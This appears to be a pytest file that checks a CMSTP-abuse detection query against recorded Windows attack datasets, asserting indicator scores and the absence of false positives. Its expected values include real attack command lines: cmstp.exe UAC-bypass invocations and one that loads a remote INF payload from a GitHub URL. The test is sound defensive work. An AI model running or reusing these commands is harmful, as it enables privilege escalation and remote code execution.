"""The CMSTP detection end to end on the bundled real recordings."""

from __future__ import annotations

from functools import cache
from pathlib import Path

import pytest

from cqlkit.detections.catalog import find_detections
from cqlkit.engines.reference.context import RunContext
from cqlkit.engines.reference.interpreter import run_plan
from cqlkit.plan.planner import plan_query
from cqlkit.sources import read_events

DATA = Path(__file__).resolve().parent.parent / "data"
OTRF = DATA / "OTRF_Security-Datasets"
EVTX = DATA / "sbousseaden_EVTX-ATTACK-SAMPLES"
INDICATORS = (
    "AutoClose",
    "NoUI",
    "HasINF",
    "SuspiciousPath",
    "RemoteLoad",
    "SuspiciousParent",
    "RiskScore",
)

RECORDINGS = sorted([*OTRF.glob("*.zip"), *EVTX.glob("*.evtx")])
BASELINES = [
    OTRF / "empire_persistence_registry_modification_run_keys_standard_user.zip",
    OTRF / "metasploit_logonpasswords_lsass_memory_dump.zip",
    OTRF / "cmd_dumping_ntds_dit_file_ntdsutil.zip",
    OTRF / "aptsimulator_cobaltstrike.zip",
    EVTX / "PanacheSysmon_vs_AtomicRedTeam01.evtx",
]


@cache
def events_of(path: Path) -> tuple[dict[str, str], ...]:
    return tuple(read_events([path]))


@cache
def rows_of(path: Path, query: str = "logscale") -> list[dict[str, str]]:
    detection = find_detections(["T1218.003-cmstp"])[0]
    plan = plan_query(detection.query(query), lenient=query == "published")
    return [
        dict(row) for row in run_plan(plan, events_of(path), RunContext(lift_default_limits=True))
    ]


def indicators(row: dict[str, str]) -> dict[str, str]:
    return {name: row[name] for name in INDICATORS}


def test_otrf_sysmon_and_4688_rows() -> None:
    rows = rows_of(OTRF / "psh_cmstp_execution_bypassuac.zip")
    assert len(rows) == 2
    assert {row.get("EventID") for row in rows} <= {None}  # select() keeps only its fields
    for row in rows:
        assert (
            row["CommandLine"]
            == '"C:\\windows\\system32\\cmstp.exe" /s C:\\ProgramData\\T1218.003_uacbypass.inf /au'
        )
        assert row["ParentBaseFileName"] == "powershell.exe"
        assert indicators(row) == {
            "AutoClose": "1",
            "NoUI": "0",
            "HasINF": "1",
            "SuspiciousPath": "1",
            "RemoteLoad": "0",
            "SuspiciousParent": "1",
            "RiskScore": "4",
        }


def test_otrf_sysmon_row_uses_utctime() -> None:
    rows = rows_of(OTRF / "psh_cmstp_execution_bypassuac.zip")
    # Sysmon's UtcTime 2020-10-22 05:54:23.975; rows are sorted newest first.
    assert rows[0]["@timestamp"] == "1603346063975"
    assert rows[0]["ComputerName"] == "WORKSTATION5"


def test_winpwnage_ini_scores_two() -> None:
    rows = rows_of(EVTX / "sysmon_1_13_11_cmstp_ini_uacbypass.evtx")
    assert len(rows) == 1
    row = rows[0]
    assert row["CommandLine"].endswith("/au c:\\users\\ieuser\\appdata\\local\\temp\\tmp.ini")
    assert row["ParentBaseFileName"] == "python.exe"
    assert indicators(row) == {
        "AutoClose": "1",
        "NoUI": "0",
        "HasINF": "0",
        "SuspiciousPath": "1",
        "RemoteLoad": "0",
        "SuspiciousParent": "0",
        "RiskScore": "2",
    }


def test_remote_inf_scores_five() -> None:
    rows = rows_of(EVTX / "panache_sysmon_vs_EDRTestingScript.evtx")
    assert len(rows) == 1
    row = rows[0]
    assert row["CommandLine"] == (
        "cmstp.exe  /ni /s https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/Payloads/Cmstp.inf"
    )
    assert row["ParentBaseFileName"] == "cmd.exe"
    assert indicators(row) == {
        "AutoClose": "1",
        "NoUI": "1",
        "HasINF": "1",
        "SuspiciousPath": "0",
        "RemoteLoad": "1",
        "SuspiciousParent": "1",
        "RiskScore": "5",
    }


def test_regsvr32_cmstp_sct_is_not_a_hit() -> None:
    events = events_of(EVTX / "panache_sysmon_vs_EDRTestingScript.evtx")
    regsvr32 = [e for e in events if "Cmstp_calc.sct" in e.get("CommandLine", "")]
    assert regsvr32, "the recording holds the regsvr32 hard negative"
    rows = rows_of(EVTX / "panache_sysmon_vs_EDRTestingScript.evtx")
    assert all("regsvr32" not in row["CommandLine"].lower() for row in rows)


def test_svchost_dash_s_is_not_a_hit() -> None:
    path = OTRF / "empire_persistence_registry_modification_run_keys_standard_user.zip"
    svchost = [
        e
        for e in events_of(path)
        if "svchost.exe" in e.get("CommandLine", "").lower() and " -s " in e.get("CommandLine", "")
    ]
    assert len(svchost) >= 100
    assert rows_of(path) == []


@pytest.mark.parametrize("path", BASELINES, ids=[path.name for path in BASELINES])
def test_baseline_has_no_hit(path: Path) -> None:
    assert rows_of(path) == []


@pytest.mark.parametrize("path", RECORDINGS, ids=[path.name for path in RECORDINGS])
def test_published_lenient_equals_corrected(path: Path) -> None:
    assert rows_of(path, "published") == rows_of(path, "logscale")


def test_published_query_fails_without_lenient() -> None:
    from cqlkit.errors import SemanticError

    detection = find_detections(["T1218.003-cmstp"])[0]
    with pytest.raises(SemanticError):
        plan_query(detection.query("published"))


@pytest.mark.parametrize("path", RECORDINGS, ids=[path.name for path in RECORDINGS])
def test_duckdb_equals_reference(path: Path) -> None:
    from cqlkit.engines.duckdb.engine import DuckDBEngine

    detection = find_detections(["T1218.003-cmstp"])[0]
    plan = plan_query(detection.query())
    (outcome,) = DuckDBEngine().run([plan], events_of(path), lift_default_limits=True)
    assert [dict(row) for row in outcome.rows] == rows_of(path)
    assert outcome.notices == []
